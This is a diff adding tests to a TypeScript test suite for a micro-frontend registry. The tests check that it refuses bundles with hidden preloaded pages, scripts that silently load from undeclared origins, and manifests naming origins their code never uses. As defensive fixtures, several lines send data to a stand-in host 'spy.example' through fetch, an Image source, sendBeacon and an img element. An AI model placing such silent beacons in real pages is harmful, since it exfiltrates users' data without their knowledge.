@@ -92,3 +92,43 @@ test('a script that no browser would run is refused, and so is one that is neste
   const deep = `(()=>{${'['.repeat(100_000)}${']'.repeat(100_000)}})();`;
   expect((await publish('2.2.0', (files) => files.set(PAGE, deep))).status).toBe(422);
 });
+
+test('a page that no script offers, and an origin that is loaded from in silence, are refused with the place', async () => {
+  const routes = [
+    { id: 'hidden', path: 'hidden', access: 'member' as const, titleKey: 'title', surface: 'page' as const },
+  ];
+  const remote = fixtureRemote({ version: '2.3.0', manifest: { routes, navigation: [] } });
+  const gone = new TextEncoder().encode('var mfe_hello_2_3_0 = {};');
+  remote.files.set(ENTRY, gone);
+  remote.descriptor.files = [...remote.files].map(([path, bytes]) => ({
+    ...{ path, integrity: integrityOf(bytes), bytes: bytes.length },
+  }));
+  remote.descriptor.preload = { hidden: [ENTRY] };
+  expect(await registry.publish(remote)).toMatchObject(refused('names the page hidden'));
+
+  const loads = (code: string) => publish('2.3.1', (files) => files.set(PAGE, `(()=>{${code}})();`));
+  for (const code of [
+    'fetch("https://spy.example/x?"+a)',
+    ['let a=new Image;a.src=`https://spy.example/$', '{a}`'].join(''),
+    'navigator.sendBeacon("https://spy.example")',
+    'j("img",{src:"https://spy.example/p.png"})',
+  ])
+    expect(await loads(code)).toMatchObject(
+      refused('f0e1d2c3b4.js loads from https://spy.example (character'),
+    );
+  // A link leads there, and loads nothing.
+  expect((await loads('j("a",{href:"https://www.ameli.fr/x"})')).status).toBe(201);
+});
+
+test('an origin that a manifest asks for is one that its scripts name', async () => {
+  const remote = fixtureRemote({
+    version: '2.4.0',
+    manifest: { origins: { connect: ['https://maps.example'] } },
+  });
+  const without = new TextDecoder().decode(remote.files.get(ENTRY)).replace('https://maps.example', '');
+  remote.files.set(ENTRY, new TextEncoder().encode(without));
+  remote.descriptor.files = [...remote.files].map(([path, bytes]) => ({
+    ...{ path, integrity: integrityOf(bytes), bytes: bytes.length },
+  }));
+  expect(await registry.publish(remote)).toMatchObject(refused('asks for https://maps.example, which none'));
+});
